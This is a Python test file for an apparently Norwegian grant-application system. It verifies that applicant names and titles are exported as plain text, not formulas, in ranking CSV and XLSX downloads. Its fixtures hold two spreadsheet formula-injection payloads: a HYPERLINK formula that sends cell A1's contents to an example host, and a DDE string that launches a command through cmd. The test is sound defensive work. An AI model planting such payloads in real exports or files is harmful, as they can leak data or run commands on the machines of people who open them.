"""Text from applicants never becomes a formula in the ranking's CSV or XLSX."""
import csv
import io

from openpyxl import load_workbook

from potten.applications.workflow import Status
from potten.extensions import db
from tests.factories import make_application, make_declaration, make_round, make_user

TITLE = '=HYPERLINK("http://example.com/?"&A1;"Klikk")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_title_or_name_that_looks_like_a_formula_stays_text(app, client, login_as):
    viewer = login_as("decision_maker")
    round_ = make_round()
    applicant = make_user(name=NAME)
    found = make_application(applicant=applicant, round_=round_, status=Status.SUBMITTED, title=TITLE)
    make_declaration(found, viewer)
    db.session.commit()
    area = round_.focus_areas[0].id

    rows = list(csv.reader(io.StringIO(client.get(f"/vurdering/innsatsomrade/{area}/rangering.csv")
                                       .get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert rows[1][1] == "'" + TITLE and rows[1][2].startswith("'@SUM(1+1)")

    book = load_workbook(io.BytesIO(client.get(f"/vurdering/innsatsomrade/{area}/rangering.xlsx").data))
    title, name = book.active["B2"], book.active["C2"]
    assert (title.value, title.data_type) == (TITLE, "s")
    assert (name.value, name.data_type) == (NAME, "s")
